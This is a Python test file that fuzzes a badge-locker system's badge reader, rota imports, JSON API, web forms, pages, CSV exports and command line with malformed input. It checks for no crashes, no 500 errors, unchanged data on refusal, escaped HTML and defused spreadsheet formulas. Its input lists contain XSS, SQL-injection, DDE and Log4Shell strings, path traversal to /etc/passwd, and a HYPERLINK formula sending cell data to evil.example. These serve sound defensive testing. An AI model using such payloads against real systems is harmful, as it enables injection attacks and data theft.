"""Bad input everywhere: badge UIDs, rota files, API requests, names in pages and exports.

What must hold: no exception but the product's own refusals, no 500, nothing
stored changed by a rejected request (every table is dumped before and after),
names shown escaped in the panel's HTML, and spreadsheet formulas defused in
CSV exports.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import string
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, text

from locker.clock import SimulatedClock
from locker.controller import Controller
from locker.db import Database, migrate
from locker.decisions import BadgeRead, LogEntry, SensorReading, Unlock
from locker.errors import InvalidRequest, RotaError
from locker.events import GRANT_REASONS
from locker.log import append, export, verify
from locker.log.personal import resolve_one
from locker.models import Base, Event
from locker.people import add_person
from locker.roster import normalise_uid
from locker.rota_file import import_rota, parse_rota
from locker_app.cli import main as cli_main
from tests.support.nursery import MONDAY, at, make_config
from tests.support.panel import raise_alert
from tests.support.tamper_kit import write_config

LONDON = ZoneInfo("Europe/London")
FUZZ = settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

INJECTIONS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE events; --",
    "Robert'); DELETE FROM people;--",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "%s%s%s%n",
    "\u202eevil",
    "\x00",
    "\ud800",
    'Zoë "Z" O\'Brien',
    "x" * 600,
]
#: The injections a person can type: lone surrogates and NUL never get past the panel.
PLAIN_INJECTIONS = [s for s in INJECTIONS if "\ud800" not in s and "\x00" not in s]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def dump(db: Database, *, skip: frozenset[str] = frozenset()) -> dict[str, list]:
    """Every row of every table, in primary-key order (columns that change on reads left out)."""
    tables = {}
    with db.engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            if table.name in skip:
                continue
            columns = [
                c for c in table.columns if (table.name, c.name) != ("api_tokens", "last_used_at")
            ]
            order = [c for c in table.primary_key.columns]
            rows = conn.execute(select(*columns).order_by(*order)).all()
            tables[table.name] = [tuple(row) for row in rows]
    return tables


# ------------------------------------------------------------------ badge UIDs


@pytest.fixture
def controller(tmp_path):
    """A controller on a fresh database with Alice (A1A1A1A1) on shift."""
    config = dataclasses.replace(make_config(), data_dir=str(tmp_path))
    clock = SimulatedClock(at(MONDAY, "10:00"))
    db = Database(f"sqlite:///{tmp_path / 'locker.db'}")
    migrate(db.engine)
    with db.write() as session:
        add_person(session, "Alice", badge="A1A1A1A1", at=clock.now(), actor="test")
        session.commit()
    controller = Controller(config, db, clock)
    controller.start({s.number: SensorReading(False, False) for s in config.slots})
    yield controller
    db.dispose()


uids = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=string.hexdigits + ": -", max_size=30),
    st.binary(min_size=1, max_size=10).map(lambda b: b.hex().upper()),
    st.sampled_from(INJECTIONS[:-3] + ["", " ", "A1A1A1A1 ", "a1a1a1a1", "A1A1A1A1\n"]),
    st.text(min_size=5000, max_size=6000),
)


@FUZZ
@given(uid=uids)
def test_any_uid_from_the_reader_is_refused_or_known_never_a_crash(controller, uid):
    assume(uid != "A1A1A1A1")
    with controller.db.read() as session:
        last_id = session.scalar(select(Event.id).order_by(Event.id.desc()).limit(1))
    outputs = controller.handle(BadgeRead(uid))
    assert not [o for o in outputs if isinstance(o, Unlock)]
    with controller.db.read() as session:
        logged = list(session.scalars(select(Event).where(Event.id > last_id)))
        unknown = [e for e in logged if e.kind == "badge.unknown"]
        assert len(unknown) == 1
        assert resolve_one(session, json.loads(unknown[0].details), None)["uid"] == uid
    assert {e.kind for e in logged} <= {"badge.unknown", "alert.raised"}


def test_the_fuzzed_log_still_verifies(controller):
    for uid in INJECTIONS[:-3] + ["\u0000" * 3, "é" * 1000]:
        controller.handle(BadgeRead(uid))
    with controller.db.read() as session:
        assert verify(session).ok


@given(text=st.one_of(st.text(max_size=60), st.text(string.hexdigits + ":- \t", max_size=40)))
@settings(max_examples=500, deadline=None)
def test_normalise_uid_returns_a_stored_uid_or_refuses(text):
    try:
        uid = normalise_uid(text)
    except InvalidRequest as exc:
        assert "badge UID" in str(exc)
        return
    assert len(uid) in (8, 14, 20)
    assert set(uid) <= set("0123456789ABCDEF")
    assert normalise_uid(uid) == uid


@given(
    raw=st.binary(min_size=4, max_size=10).filter(lambda b: len(b) in (4, 7, 10)),
    sep=st.sampled_from(["", ":", " ", "-"]),
    lower=st.booleans(),
)
def test_every_spelling_of_a_card_normalises_to_its_bytes(raw, sep, lower):
    typed = sep.join(f"{b:02x}" if lower else f"{b:02X}" for b in raw)
    assert normalise_uid(typed) == raw.hex().upper()


# ------------------------------------------------------------------ rota files

NAMES = ["Alice", "Bob", "Nobody", "", "alice", "<script>", "=1+1", "Zoë"]
DATES = [
    "2026-01-05",
    "2026-01-06",
    "2026-02-30",
    "2026-13-01",
    "",
    "05/01/2026",
    "2026-1-5",
    "2026-03-29",
    "2026-10-25",
    "9999-12-31",
    "0001-01-01",
]
TIMES = [
    "08:00",
    "8:00",
    "16:00",
    "24:00",
    "07:60",
    "",
    "noon",
    "01:30",
    "23:59",
    "00:00",
    "12:00",
    "99:99",
    "١٢:٠٠",
]
BREAKS = [
    "",
    "12:00-12:30",
    "12:30-12:00",
    "12:00-12:30;13:00-13:15",
    "12:00-12:30;12:15-12:45",
    "-",
    ";",
    "a-b",
    "12:00",
    "06:00-07:00",
    "12:00 - 12:30",
    "12:00-12:30;",
]
cells = st.one_of(st.text(max_size=12), st.sampled_from(INJECTIONS[:-1]))
rows = st.lists(
    st.one_of(
        st.tuples(
            st.sampled_from(DATES),
            st.sampled_from(NAMES),
            st.sampled_from(TIMES),
            st.sampled_from(TIMES),
            st.sampled_from(BREAKS),
        ).map(list),
        st.lists(cells, max_size=7),
    ),
    max_size=8,
)


def as_csv(rows: list[list[str]], header: bool, newline: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    if header:
        writer.writerow(["date", "name", "start", "end", "breaks"])
    writer.writerows(rows)
    return out.getvalue()


rota_files = st.one_of(
    st.builds(as_csv, rows, st.booleans(), st.sampled_from(["\n", "\r\n", "\r"])),
    st.text(max_size=300),
    st.binary(max_size=300).map(lambda b: b.decode("utf-8", "replace")),
    st.builds(lambda body: "\ufeffdate,name,start,end,breaks\n" + body, st.text(max_size=200)),
)


@pytest.fixture
def rota_db(tmp_path):
    db = Database(f"sqlite:///{tmp_path / 'rota.db'}")
    migrate(db.engine)
    with db.write() as session:
        for name in ("Alice", "Bob", "Zoë"):
            add_person(session, name, at=at(MONDAY, "07:00"), actor="test")
        session.commit()
    yield db
    db.dispose()


@FUZZ
@given(text=rota_files)
def test_a_rota_file_is_stored_whole_or_refused_with_nothing_changed(rota_db, text):
    before = dump(rota_db)
    with rota_db.write() as session:
        try:
            import_rota(session, text, tz=LONDON, at=at(MONDAY, "07:00"), actor="test")
        except RotaError as exc:
            assert exc.problems and all(isinstance(n, int) and n >= 1 for n, _ in exc.problems)
            # Even a caller that commits after a refusal stores nothing.
            session.commit()
            assert dump(rota_db) == before
            return
        session.rollback()


@given(text=rota_files)
@settings(max_examples=300, deadline=None)
def test_parse_rota_refuses_with_rota_error_or_parses(text):
    try:
        plans = parse_rota(text, people_by_name={"Alice": 1, "Bob": 2}, tz=LONDON)
    except RotaError:
        return
    for plan in plans:
        assert plan.start < plan.end
        assert all(plan.start <= s < e <= plan.end for s, e in plan.breaks)


# ------------------------------------------------------------------ the JSON API

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=30),
    st.sampled_from(INJECTIONS),
)
json_values = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
ids = st.one_of(st.sampled_from([1, 2, 3, 0, -1, 999, 2**63 - 1, 2**63, 10**30]), json_values)


def body(fields: dict) -> st.SearchStrategy:
    """A JSON object with any of ``fields`` (each a strategy) and sometimes an unknown one."""
    return st.fixed_dictionaries(
        {}, optional={**fields, "extra": json_values, "<script>": json_values}
    )


BODIES = {
    "/api/grants": body(
        {
            "person_id": ids,
            "reason": st.sampled_from(GRANT_REASONS) | json_values,
            "note": st.sampled_from(INJECTIONS) | json_values,
            "open_now": st.booleans() | json_values,
            "return_minutes": st.integers(-5, 2000) | json_values,
        }
    ),
    "/api/slots/{n}/release": body(
        {"reason": st.sampled_from(INJECTIONS) | json_values, "password": json_values}
    ),
    "/api/release-all": body(
        {
            "reason": st.sampled_from(INJECTIONS) | json_values,
            "confirm": st.booleans() | json_values,
            "password": json_values,
        }
    ),
    "/api/alerts/{n}/ack": body({}),
    "/api/sim/badge": body({"uid": st.sampled_from(["A1A1A1A1", "zz"]) | json_values}),
    "/api/sim/slots/{n}": body(
        {
            "door": st.sampled_from(["open", "closed"]) | json_values,
            "device": st.booleans() | json_values,
        }
    ),
    "/api/sim/clock": body(
        {
            "advance_s": json_values | st.integers(-10, 10**9),
            "to": st.sampled_from(["12:00", "25:00", "1:00"]) | json_values,
        }
    ),
}
#: A request each route accepts, for mutating one field at a time.
VALID = {
    "/api/grants": {"person_id": 1, "reason": "outing", "note": "n", "return_minutes": 30},
    "/api/slots/{n}/release": {"reason": "needed"},
    "/api/release-all": {"reason": "fire drill", "confirm": True},
    "/api/alerts/{n}/ack": {},
    "/api/sim/badge": {"uid": "A1A1A1A1"},
    "/api/sim/slots/{n}": {"door": "open"},
    "/api/sim/clock": {"advance_s": 60},
}


@st.composite
def mutated(draw, route: str) -> dict:
    """The route's valid request with one field replaced, removed or added."""
    request = dict(VALID[route])
    key = draw(st.sampled_from([*request, "extra"]))
    if key in request and draw(st.booleans()):
        del request[key]
    else:
        request[key] = draw(st.sampled_from(INJECTIONS) | json_values)
    return request


raw_bodies = st.one_of(
    st.binary(max_size=80),
    st.sampled_from(
        [
            b"{",
            b"[1,2]",
            b"null",
            b'{"a":',
            b"[" * 5000,
            b'"\\ud800"',
            b'{"person_id": 1e999}',
            b'{"reason": NaN}',
            b"\xff\xfe{}",
        ]
    ),
)
numbers = st.sampled_from(["1", "1", "1", "4", "0", "99", "-1", "x", str(10**30), "%00", "1;DROP"])


@pytest.fixture
def alert_to_ack(db, clock):
    """Alert 1, open, so an acknowledgement can succeed once."""
    return raise_alert(db, clock.now())


@settings(FUZZ, max_examples=300)
@given(
    route=st.sampled_from(sorted(BODIES)),
    number=numbers,
    payload=st.one_of(st.none(), json_values),
    data=st.data(),
)
def test_any_api_request_gets_an_answer_never_a_500_and_a_refusal_changes_nothing(
    client, bearer, daemon, db, alert_to_ack, route, number, payload, data
):
    path = route.replace("{n}", number)
    kind = data.draw(
        st.sampled_from(["valid", "mutated", "mutated", "shaped", "any_json", "raw", "form"])
    )
    if kind == "valid":
        request = {"json": VALID[route]}
    elif kind == "mutated":
        request = {"json": data.draw(mutated(route))}
    elif kind == "shaped":
        request = {"json": data.draw(BODIES[route])}
    elif kind == "any_json":
        request = {"json": payload}
    elif kind == "raw":
        request = {"data": data.draw(raw_bodies), "content_type": "application/json"}
    else:
        request = {"data": {"reason": "x"}}
    before = dump(db)
    response = client.post(path, headers=bearer, **request)
    event(f"{route} {response.status_code}")
    assert response.status_code < 500, (path, request, response.get_data(as_text=True))
    if response.status_code >= 400:
        assert response.is_json and isinstance(response.get_json().get("error"), str)
        # A refusal by the daemon (409) leaves its failed command on record; nothing else.
        skip = frozenset({"commands"}) if response.status_code == 409 else frozenset()
        assert dump(db, skip=skip) == {k: v for k, v in before.items() if k not in skip}


@FUZZ
@given(
    after_id=st.one_of(st.text(max_size=25), st.integers(-5, 10**25).map(str)),
    limit=st.one_of(st.text(max_size=8), st.integers(-5, 5000).map(str)),
    kind=st.one_of(st.text(max_size=20), st.sampled_from(["badge.unknown", "x' OR 1=1 --"])),
)
def test_any_events_query_is_answered_never_a_500(client, bearer, daemon, after_id, limit, kind):
    response = client.get(
        "/api/events",
        query_string={"after_id": after_id, "limit": limit, "kind": kind},
        headers=bearer,
    )
    assert response.status_code in (200, 400), response.get_data(as_text=True)


@FUZZ
@given(
    upload=st.one_of(
        st.binary(max_size=400), rota_files.map(lambda t: t.encode("utf-8", "replace"))
    )
)
def test_a_rota_upload_is_refused_or_stored_never_a_500(client, auth, daemon, db, upload):
    if client.get("/login").status_code != 302:  # the client stays logged in between examples
        auth.login()
    before = dump(db)
    response = auth.post(
        "/rota/import",
        {"file": (io.BytesIO(upload), "rota.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert dump(db) == before


form_text = st.one_of(st.text(max_size=40), st.sampled_from(PLAIN_INJECTIONS), st.just(""))


@settings(FUZZ, max_examples=100)
@given(
    name=form_text,
    role=st.sampled_from(["staff", "manager", "visitor", "admin", ""]) | st.text(max_size=8),
    slot=st.sampled_from(["", "1", "2", "4", "99", "-1", "x", str(10**30)]),
    badge=st.sampled_from(["", "A1A1A1A1", "DEADBEEF", "de:ad:be:ef:00:11:22", "zz"]) | form_text,
)
def test_the_people_form_stores_a_person_whole_or_nothing(
    client, auth, daemon, db, name, role, slot, badge
):
    if client.get("/login").status_code != 302:  # the client stays logged in between examples
        auth.login()
    before = dump(db)
    response = auth.post("/people", {"name": name, "role": role, "slot": slot, "badge": badge})
    assert response.status_code in (302, 400, 409), response.status_code
    if response.status_code != 302:
        assert dump(db) == before
        page = response.get_data(as_text=True)
        for raw in PLAIN_INJECTIONS:
            if "<" in raw:
                assert raw not in page


# ------------------------------------------------------------------ names in pages


NASTY_NAMES = [
    "<script>alert('name')</script>",
    '"><img src=x onerror=alert(2)>',
    "Ann & <b>Bob</b>",
]
PAGES = ["/", "/people", "/rota", "/log", "/log/overrides", "/report", "/actions", "/sim"]


def test_names_and_notes_are_escaped_on_every_page(client, auth, bearer, daemon, db, clock):
    with db.write() as session:
        ids = []
        for n, name in enumerate(NASTY_NAMES):
            person = add_person(session, name, badge=f"0000000{n}", at=clock.now(), actor="test")
            ids.append(person.id)
        session.commit()
    daemon.controller.reload_roster()
    daemon.deposit("00000000", 1)  # the first nasty name holds slot 1: on the status page
    note = "<script>alert('note')</script>"
    answer = client.post(
        "/api/grants", headers=bearer, json={"person_id": ids[1], "reason": "other", "note": note}
    )
    assert answer.status_code == 200, answer.get_json()
    auth.login()
    visitor = auth.post(
        "/actions/visitor-in", {"visitor-in-name": "<iframe src=//evil>", "visitor-in-slot": ""}
    )
    assert visitor.status_code == 302
    daemon.heartbeat()
    for page in PAGES:
        html = client.get(page).get_data(as_text=True)
        for raw in [*NASTY_NAMES, note, "<iframe src=//evil>"]:
            assert raw not in html, f"{page} shows {raw!r} unescaped"
    people = client.get("/people").get_data(as_text=True)
    assert "&lt;script&gt;alert(" in people
    assert "&lt;script&gt;alert(" in client.get("/log/overrides").get_data(as_text=True)


# ------------------------------------------------------------------ CSV exports


def csv_cells(text_: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text_)) for cell in row]


@FUZZ
@given(
    actor=st.text(min_size=1, max_size=20) | st.sampled_from(PLAIN_INJECTIONS),
    start=st.sampled_from(FORMULA_START + ("a",)),
    details=st.dictionaries(st.text(max_size=5), st.text(max_size=10), max_size=2),
)
def test_an_export_never_starts_a_cell_with_a_formula(rota_db, actor, start, details):
    with rota_db.write() as session:
        append(
            session,
            LogEntry("config.changed", start + actor, details=details),
            datetime(2026, 1, 5, 9, tzinfo=UTC),
        )
        session.commit()
    out = io.StringIO()
    with rota_db.read() as session:
        export(session, out, fmt="csv")
    for cell in csv_cells(out.getvalue()):
        assert not cell.startswith(FORMULA_START), cell


def test_a_formula_name_is_defused_in_the_panel_and_cli_exports(
    client, auth, daemon, db, clock, config, tmp_path
):
    names = ['=HYPERLINK("http://evil.example")', "+1+1", "-1+1", "@SUM(A1)"]
    with db.write() as session:
        for n, name in enumerate(names):
            add_person(session, name, badge=f"1000000{n}", at=clock.now(), actor="test")
        session.commit()
    daemon.controller.reload_roster()
    for n in range(len(names)):
        daemon.controller.handle(BadgeRead(f"1000000{n}"))  # the name is the event's actor
    auth.login("viewer")
    panel = client.get("/log/export.csv").get_data(as_text=True)
    config_path = write_config(tmp_path, Path(config.db_url.removeprefix("sqlite:///")))
    cli = CliRunner().invoke(
        cli_main, ["--config", str(config_path), "log", "export"], catch_exceptions=False
    )
    assert cli.exit_code == 0, cli.output
    for output in (panel, cli.output):
        actors = [row[3] for row in csv.reader(io.StringIO(output))]
        for name in names:
            assert "'" + name in actors
        for cell in csv_cells(output):
            assert not cell.startswith(FORMULA_START), cell


def test_the_dump_sees_a_change(db, people):
    # The comparisons above would pass vacuously if the dump saw nothing.
    before = dump(db)
    with db.write() as session:
        session.execute(text("UPDATE people SET name = 'Changed' WHERE id = 1"))
        session.commit()
    assert dump(db) != before
    assert before["people"] and before["events"]


# ------------------------------------------------------------------ the command line


@pytest.fixture
def cli(tmp_path):
    """``locker`` on a fresh config and database in ``tmp_path`` (in process, through click)."""
    config = tmp_path / "config.toml"
    runner = CliRunner()

    def run(*args: str):
        return runner.invoke(cli_main, ["--config", str(config), *args])

    assert run("init").exit_code == 0
    return run


#: What a shell hands over for bytes that are not UTF-8 (Python's surrogateescape).
argv_text = st.one_of(
    st.text(max_size=30),
    st.sampled_from(PLAIN_INJECTIONS),
    st.builds(lambda a, b: a + "\udcff" + b, st.text(max_size=5), st.text(max_size=5)),
)


@settings(FUZZ, max_examples=60)
@given(command=st.sampled_from(["staff add", "staff add --badge", "badge revoke"]), value=argv_text)
def test_any_name_or_uid_on_the_command_line_is_an_error_line_never_a_traceback(
    cli, command, value
):
    args = command.split()
    if args[-1] == "--badge":
        args = ["staff", "add", "Somebody", "--badge"]
    result = cli(*args, value)
    # CliRunner keeps what escaped the command; the real CLI prints it as a traceback.
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"locker {' '.join(args)} {value!r} raised {result.exception!r}"
    )
    assert result.exit_code == 0 or result.output.startswith("error:") or "Usage" in result.output
